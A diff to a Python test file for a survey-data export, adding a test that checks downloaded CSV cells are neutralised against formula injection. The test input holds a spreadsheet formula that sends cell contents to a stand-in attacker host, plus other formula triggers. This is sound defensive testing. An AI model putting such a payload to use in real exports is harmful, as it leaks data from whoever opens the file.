@@ -1,3 +1,4 @@
+import csv
 import io
 from collections.abc import Callable
 from pathlib import Path
@@ -12,8 +13,8 @@ from people.models import History, Person
 from privacy.designs import Row
 from surveys import lifecycle
 from surveys.intake.models import Inbox
-from surveys.intake.recordfiles import variables
 from surveys.models import Survey
+from surveys.recordfiles import variables
 from tests.cast import As
 from tests.intake import asked, filed
 from tests.intake.staff.conftest import ASKS, Allow
@@ -128,6 +129,20 @@ def test_a_bundle_brings_codebook_script_and_design(
     assert bundle.read("design.json").decode() == ASKS.canonical
     assert "Records: 30, of which 20 disguised and 10 open" in bundle.read("codebook.md").decode()
     assert "# Work & health\n" in bundle.read("analysis.R").decode()
+
+
+def test_no_cell_of_a_download_is_computed_by_who_opens_it(
+    owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    formula = '=HYPERLINK("http://attacker.example/"&A1,"see")'
+    question = {"name": "+1+2", "choices": [formula, "@SUM(A1)"]}
+    asks = asked.written({"kind": "plain", "questions": [question]}, least=20)
+    survey = asked.survey(asks, owner=owner)
+    filed.seal(survey, asks, [Row(1, (0,)), Row(1, (1,))] * 20)
+    allow(survey)
+    lines = download(signed_in_as(owner), survey).read("records.csv").decode().splitlines()
+    cells = [row[1] for row in csv.reader(lines)]
+    assert {*cells} == {"'+1+2", f"'{formula}", "'@SUM(A1)"}
 
 
 def test_a_bundle_speaks_the_downloaders_language(
